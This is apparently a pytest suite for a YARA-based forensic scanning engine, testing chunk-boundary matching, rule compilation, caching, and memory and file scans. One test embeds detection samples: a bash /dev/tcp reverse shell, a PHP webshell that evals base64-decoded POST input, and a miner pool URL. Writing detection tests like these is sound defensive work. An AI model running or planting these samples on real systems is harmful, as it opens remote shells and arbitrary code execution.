"""YARA engine: chunk-boundary correctness, rule compilation, fallback, cache, tables."""

from __future__ import annotations

import hashlib
import struct

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.helpers.contexts import engine_context
from toolkit.engines import yara
from toolkit.engines.yara.files import scan_file, scan_files
from toolkit.engines.yara.rules import compile_rules
from toolkit.engines.yara.scan import scan_buffer, scan_physical, scan_range, scan_regions
from toolkit.errors import RuleError
from toolkit.schemas import validate

MARK = b"BOUNDARY-MARK-0123"  # 18 bytes
MARK_RULE = 'rule mark { meta: severity = "low" strings: $m = "BOUNDARY-MARK-0123" condition: $m }\n'


def _rules(tmp_path, text=MARK_RULE, prefer="yara-x", name="mark.yar"):
    d = tmp_path / f"rules-{prefer}"
    d.mkdir(exist_ok=True)
    (d / name).write_text(text)
    return compile_rules([d], prefer=prefer)


def _reader(buf):
    return lambda addr, n: bytes(buf[addr : addr + n])


@pytest.mark.parametrize("prefer", ["yara-x", "yara-python"])
def test_match_across_every_chunk_boundary(tmp_path, prefer):
    rules = _rules(tmp_path, prefer=prefer)
    chunk, overlap, n_chunks = 1024, 64, 64
    buf = bytearray(b"." * chunk * n_chunks)
    planted = []
    for k in range(1, n_chunks):
        # every boundary, straddled at a different split point each time (1..17 bytes before it)
        pos = k * chunk - 1 - (k % (len(MARK) - 1))
        buf[pos : pos + len(MARK)] = MARK
        planted.append(pos)
    rows, _diags = (
        scan_range(rules, _reader(buf), 0, len(buf), {"target": "physical"}, [], chunk_size=chunk, overlap=overlap),
        [],
    )
    rows = list(rows)
    offsets = sorted(r["offset"] for r in rows)
    assert offsets == planted  # all found, exact, no duplicates
    assert all(r["matched"] == MARK and r["engine"] == prefer for r in rows)


@settings(max_examples=40, deadline=None)
@given(
    chunk=st.integers(64, 600),
    extra=st.integers(0, 40),
    positions=st.lists(st.integers(0, 4000), min_size=1, max_size=12),
)
def test_chunked_equals_flat_scan(chunk, extra, positions):
    overlap = len(MARK) + extra
    buf = bytearray(b"-" * 4100)
    for p in positions:
        buf[p : p + len(MARK)] = MARK
    buf = buf[:4100]
    flat = sorted(h["offset"] for h in scan_buffer(_RULES, bytes(buf)))
    chunked = sorted(
        r["offset"] for r in scan_range(_RULES, _reader(buf), 0, len(buf), {}, [], chunk_size=chunk, overlap=overlap)
    )
    assert chunked == flat


def test_tail_match_reported_with_fuller_view(tmp_path):
    rules = _rules(tmp_path, "rule d { strings: $d = /DIGITS[0-9]{1,60}/ condition: $d }")
    buf = bytearray(b"x" * 400)
    buf[95:101] = b"DIGITS"
    buf[101:141] = b"7" * 40  # window 0 owns [0,100) and sees up to 164: match starts in its tail
    rows = list(scan_range(rules, _reader(buf), 0, len(buf), {}, [], chunk_size=100, overlap=64))
    assert [(r["offset"], r["match_length"]) for r in rows] == [(95, 46)]


def test_overlap_must_be_smaller_than_chunk(tmp_path):
    rules = _rules(tmp_path)
    with pytest.raises(ValueError, match="overlap"):
        list(scan_range(rules, _reader(b"abc"), 0, 3, {}, [], chunk_size=10, overlap=10))


def _rule_dir(folder, files: dict):
    """A directory of rule files: {file name: rule text}."""
    folder.mkdir()
    for name, text in files.items():
        (folder / name).write_text(text)
    return folder


def test_syntax_error_names_file_and_line(tmp_path):
    broken = 'rule ok { condition: true }\n\nrule bad {\n  strings: $a = "x"\n  condition: $a and\n}\n'
    d = _rule_dir(tmp_path / "bad", {"good.yar": MARK_RULE, "broken.yar": broken})
    with pytest.raises(RuleError) as err:
        compile_rules([d])
    assert "broken.yar, line 6" in str(err.value) and "nothing was scanned" in str(err.value)


def test_missing_rule_dir_is_a_rule_error(tmp_path):
    with pytest.raises(RuleError, match="no such rule"):
        compile_rules([tmp_path / "nope"])


def test_yara_python_fallback_for_file_yarax_rejects(tmp_path):
    # yara-x refuses unknown regex escapes such as \R; libyara accepts them
    legacy = (
        'rule legacy { meta: severity = "medium" strings: $a = /LEGACY\\Rx/ $b = "FALLBACK-ONLY" '
        "condition: any of them }\n"
    )
    d = _rule_dir(tmp_path / "mixed", {"modern.yar": MARK_RULE, "legacy.yar": legacy})
    rules = compile_rules([d])
    engines = {f["namespace"]: f["engine"] for f in rules["files"]}
    assert engines == {"legacy": "yara-python", "modern": "yara-x"}
    assert any("yara-x rejects" in x["why"] for x in rules["diagnostics"])
    hits = scan_buffer(rules, b"..FALLBACK-ONLY.." + MARK)
    assert {(h["rule"], h["engine"]) for h in hits} == {("legacy", "yara-python"), ("mark", "yara-x")}


def test_compiled_rules_cached_by_content(tmp_path):
    d = tmp_path / "r"
    d.mkdir()
    (d / "m.yar").write_text(MARK_RULE)
    cache = tmp_path / "cache"
    first = compile_rules([d], cache_dir=cache)
    second = compile_rules([d], cache_dir=cache)
    assert not first["cached"] and second["cached"] and first["key"] == second["key"]
    assert [h["rule"] for h in scan_buffer(second, MARK)] == ["mark"]
    (d / "m.yar").write_text(MARK_RULE.replace("mark", "mark2"))
    third = compile_rules([d], cache_dir=cache)
    assert not third["cached"] and third["key"] != first["key"]


def test_an_edited_included_file_is_compiled_again(tmp_path):
    """The rule file is unchanged; the file it includes (outside the rule directory) is edited."""
    rules_dir, common = tmp_path / "rules", tmp_path / "common"
    rules_dir.mkdir()
    common.mkdir()
    (common / "c.yar").write_text('rule common_v1 { strings: $a = "INCLUDED-MARK" condition: $a }\n')
    (rules_dir / "main.yar").write_text('include "../common/c.yar"\n')
    cache = tmp_path / "cache"
    first = compile_rules([rules_dir], cache_dir=cache)
    assert {h["rule"] for h in scan_buffer(first, b"..INCLUDED-MARK..")} == {"common_v1"}
    (common / "c.yar").write_text('rule common_v2 { strings: $a = "INCLUDED-MARK" condition: $a }\n')
    second = compile_rules([rules_dir], cache_dir=cache)  # before: the cached set with common_v1 was loaded
    assert not second["cached"] and second["key"] != first["key"]
    assert {h["rule"] for h in scan_buffer(second, b"..INCLUDED-MARK..")} == {"common_v2"}
    assert compile_rules([rules_dir], cache_dir=cache)["cached"]


def test_scan_file_hashes_and_respects_max_size(tmp_path):
    rules = _rules(tmp_path)
    f = tmp_path / "blob.bin"
    data = b"a" * 5000 + MARK + b"b" * 3000
    f.write_bytes(data)
    rows, diags = scan_file(rules, f, chunk_size=1024, overlap=64)
    assert [(r["offset"], r["target"], r["path"]) for r in rows] == [(5000, "file", str(f))]
    assert rows[0]["sha256"] == hashlib.sha256(data).hexdigest() and diags == []
    rows, diags = scan_files(rules, [f, tmp_path / "missing"], max_file_size=100)
    assert rows == [] and "max_file_size" in diags[0]["why"] and diags[0]["where"] == str(f)


def test_scan_regions_and_physical_rows(tmp_path):
    rules = _rules(tmp_path)
    mem = bytearray(b"\0" * 0x3000)
    mem[0x1FF8 : 0x1FF8 + len(MARK)] = MARK
    region = {
        "target": "process",
        "pid": 42,
        "process": "kworker/0:2H",
        "start": 0x400000,
        "end": 0x403000,
        "protection": "rw-",
        "path": None,
        "read": lambda a, n: bytes(mem[a - 0x400000 : a - 0x400000 + n]),
    }
    rows, diags = scan_regions(rules, [region], chunk_size=0x1000, overlap=0x100)
    assert [(r["pid"], r["process"], r["offset"], r["protection"], r["region_start"]) for r in rows] == [
        (42, "kworker/0:2H", 0x401FF8, "rw-", 0x400000)
    ]

    class Image:  # two touching runs and one apart: the marker straddles the touching pair
        runs = [(0x1000, 0x1000), (0x2000, 0x1000), (0x100000, 0x1000)]

        def read(self, gpa, n):
            return bytes(mem[gpa - 0x1000 : gpa - 0x1000 + n]) if gpa < 0x100000 else b"\0" * n

    mem = bytearray(b"\0" * 0x2000)
    mem[0xFF8 : 0xFF8 + len(MARK)] = MARK  # GPA 0x1ff8: straddles the two touching runs
    rows, diags = scan_physical(rules, Image(), chunk_size=0x1000, overlap=0x100)
    assert [(r["target"], r["offset"], r["region_start"], r["region_end"]) for r in rows] == [
        ("physical", 0x1FF8, 0x1000, 0x3000)
    ] and diags == []


def test_short_reads_become_diagnostics(tmp_path):
    rules = _rules(tmp_path)
    rows, diags = scan_regions(
        rules,
        [{"start": 0, "end": 4096, "read": lambda a, n: b""}, {"start": 0, "end": 10, "read": lambda a, n: 1 / 0}],
    )
    assert rows == [] and len(diags) == 3 and any("ZeroDivisionError" in d["why"] for d in diags)


def _static_elf(payload: bytes) -> bytes:
    # a 64-bit ET_EXEC header with no program or section headers: static (no PT_INTERP), stripped (no .symtab)
    header = (
        b"\x7fELF"
        + bytes([2, 1, 1, 0])
        + b"\0" * 8
        + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 0, 0, 0, 64, 56, 0, 64, 0, 0)
    )
    return header + payload


def test_default_rules_metadata_and_samples(tmp_path):
    rules = compile_rules(cache_dir=tmp_path)
    import yara  # yara-python lists rules with their meta; yara-x does not

    for f in rules["files"]:
        for rule in yara.compile(filepath=f["path"]):
            assert rule.meta.get("description"), rule.identifier
            assert rule.meta.get("severity") in {"low", "medium", "high", "critical"}, rule.identifier
    eicar = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
    samples = {
        "EICAR_Test_String": eicar,
        "SnapscopeLab_Beacon_Marker": b"BEACON SNAPSCOPE-LAB-BEACON-7f3a9c seq=1 host=lab\n",
        "Linux_Static_Stripped_Kernel_Thread_Masquerade": _static_elf(b"\0kworker/0:2H\0"),
        "Reverse_Shell_Bash_Dev_Tcp": b"sh -c 'bash -i >& /dev/tcp/10.0.0.5/4444 0>&1'",
        "Miner_Stratum_Pool_Url": b"-o stratum+tcp://pool.example.org:3333 -u wallet",
        "Webshell_PHP_Request_Exec": b"<?php eval(base64_decode($_POST['x'])); ?>",
    }
    for name, data in samples.items():
        hits = scan_buffer(rules, data)
        assert name in {h["rule"] for h in hits}, name
    lab = [h for h in scan_buffer(rules, samples["SnapscopeLab_Beacon_Marker"])][0]
    assert lab["meta"]["severity"] == "high" and "lab" in lab["meta"]["description"]
    assert scan_buffer(rules, b"ordinary text with kworker and bash and php") == []


def test_run_builds_valid_tables(tmp_path):
    target = tmp_path / "disk"
    target.mkdir()
    (target / "beacon.log").write_bytes(b"x" * 100 + b"SNAPSCOPE-LAB-BEACON-00ff11 ok")
    spool = tmp_path / "s.bin"
    spool.write_bytes(b"BEACON SNAPSCOPE-LAB-BEACON-7f3a9c seq=0\n")
    import pandas as pd

    flows = pd.DataFrame(
        [
            {
                "flow_id": "f1",
                "src_ip": "10.0.2.15",
                "src_port": 40000,
                "dst_ip": "10.0.2.100",
                "dst_port": 8443,
                "proto": "tcp",
                "src_stream_file": str(spool),
                "dst_stream_file": None,
            }
        ]
    )
    ctx = engine_context(
        tmp_path, "linux-triage", snapshot_id="snap", cache_dir=tmp_path / "c", tables={"network/flows": flows}
    )
    ctx.readers.disk_files = sorted(target.iterdir())
    out = yara.run({"id": "snap"}, ctx)
    for name, df in out.items():
        validate(name, df)
    m = out["yara/matches"].sort_values("target")
    assert list(m["target"]) == ["file", "stream"]
    s = m[m.target == "stream"].iloc[0]
    assert (s.flow_id, s.src_port, s.dst_port, s.direction, s.offset) == ("f1", 40000, 8443, "src_to_dst", 7)
    assert set(out["yara/rules"]["engine"]) == {"yara-x"}


_RULES = None


def setup_module(module):
    import tempfile
    from pathlib import Path

    global _RULES
    d = Path(tempfile.mkdtemp())
    (d / "m.yar").write_text(MARK_RULE)
    _RULES = compile_rules([d])
